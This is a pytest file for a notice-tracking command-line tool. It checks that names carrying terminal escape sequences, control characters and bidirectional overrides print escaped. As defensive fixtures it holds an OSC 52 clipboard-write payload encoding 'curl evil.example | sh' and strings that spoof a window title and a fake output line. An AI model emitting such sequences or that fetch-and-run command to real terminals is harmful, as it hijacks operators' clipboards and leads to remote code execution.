"""What `psx` prints cannot drive the operator's terminal: a product name or platform
name carrying an escape sequence (OSC 52 writes the clipboard, OSC 0 the window title),
a C1 control or a bidirectional override reaches the screen escaped, visible and inert;
``--json`` stays JSON that decodes to the stored value (issue 15, finding 8)."""

from __future__ import annotations

import json
import os
import re
from datetime import UTC, datetime
from typing import Any

import pytest
from click.testing import CliRunner, Result

from chalicelib.notices.model import NoticeContent, Product
from chalicelib.stores.notices_table import NoticeStore
from psx.cli import main
from psx.embedded.runtime import EmbeddedRuntime
from psx.render import report_summary
from psx.terminal import printable
from tests.support import unique_platform_id

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: "curl evil.example | sh"
WINDOW_TITLE = "\x1b]0;psx: all clear\x07"  # OSC 0
HOSTILE = f"Kettle{CLIPBOARD}{WINDOW_TITLE}\u009b2J\u202eelttek\x7f\r\n  timeline: (none)"
# Everything a terminal acts on, but the newline that lays out the output.
RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _psx(*args: str) -> Result:
    # No endpoint: Target() talks to the session's in-process moto, stack psx-dev.
    return CliRunner().invoke(main, list(args), env={"PSX_ENDPOINT_URL": None})


@pytest.fixture(scope="module")
def hostile_notice(runtime: EmbeddedRuntime) -> str:
    content = NoticeContent(
        source_reference=f"OSC-{unique_platform_id()}",
        kind="order",
        jurisdiction="KR",
        title=f"Recall {WINDOW_TITLE}",
        product=Product(name=HOSTILE, brand=f"Brand{CLIPBOARD}", models=[f"M{WINDOW_TITLE}"]),
    )
    saved = NoticeStore(os.environ["PSX_TABLE_NAME"]).save(
        content,
        regulator_id="kftc",
        source_format="api",
        source_file=None,
        received_at=datetime.now(UTC),
    )
    return saved.current.notice_id


def test_status_prints_control_characters_escaped(hostile_notice: str) -> None:
    result = _psx("status", hostile_notice)

    assert result.exit_code == 0, result.output
    assert not RAW_CONTROL.search(result.stdout)
    assert "\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007" in result.stdout
    assert "\\u009b2J\\u202eelttek\\u007f\\u000d\\u000a  timeline: (none)" in result.stdout
    # The name's line break did not make a line of its own: one "timeline:" heading.
    assert [line.strip() for line in result.stdout.splitlines()].count("timeline:") == 1


def test_status_json_is_json_of_the_stored_value(hostile_notice: str) -> None:
    result = _psx("status", hostile_notice, "--json")

    assert result.exit_code == 0, result.output
    assert not RAW_CONTROL.search(result.stdout)
    printed: dict[str, Any] = json.loads(result.stdout)
    assert printed["notice"]["content"]["product"]["name"] == HOSTILE
    assert printed["notice"]["content"]["product"]["brand"] == f"Brand{CLIPBOARD}"


def test_platforms_list_prints_a_hostile_name_escaped(runtime: EmbeddedRuntime) -> None:
    platform_id = unique_platform_id()
    name = f"Shop{WINDOW_TITLE}\nfake-platform  Fake  [active]"
    added = _psx("platforms", "add", platform_id, "--name", name, "--jurisdiction", "KR")
    assert added.exit_code == 0, added.output

    listed = _psx("platforms", "list")

    assert not RAW_CONTROL.search(added.stdout + listed.stdout)
    shown = "Shop\\u001b]0;psx: all clear\\u0007\\u000afake-platform  Fake  [active]"
    assert f"{platform_id}  {shown}  [active]" in listed.stdout


def test_an_upload_summary_prints_what_the_file_said_escaped() -> None:
    report = {
        "file": {"key": f"incoming/kftc/evil{WINDOW_TITLE}.csv", "size_bytes": 10},
        "format": "csv",
        "status": "processed",
        "counts": dict.fromkeys(
            ["rows", "accepted", "created", "new_version", "withdrawn", "reissued", "unchanged",
             "rejected", "with_warnings", "executions_started"],
            1,
        ),
        "file_warnings": [{"message": f"odd header {CLIPBOARD}"}],
        "rows": [
            {
                "locator": "row 2",
                "errors": [{"field": "product_name", "message": f"bad {HOSTILE}"}],
                "warnings": [],
            }
        ],
    }  # fmt: skip

    summary = report_summary(report)

    assert not RAW_CONTROL.search(summary)
    assert len(summary.splitlines()) == 4  # file, counts, the file warning, the row


def test_printable_keeps_text_and_line_breaks_and_escapes_the_rest() -> None:
    assert printable("어린이 자석 블록\nKB-100") == "어린이 자석 블록\nKB-100"
    assert printable("a\tb\x00c\u2066d") == "a\\u0009b\\u0000c\\u2066d"
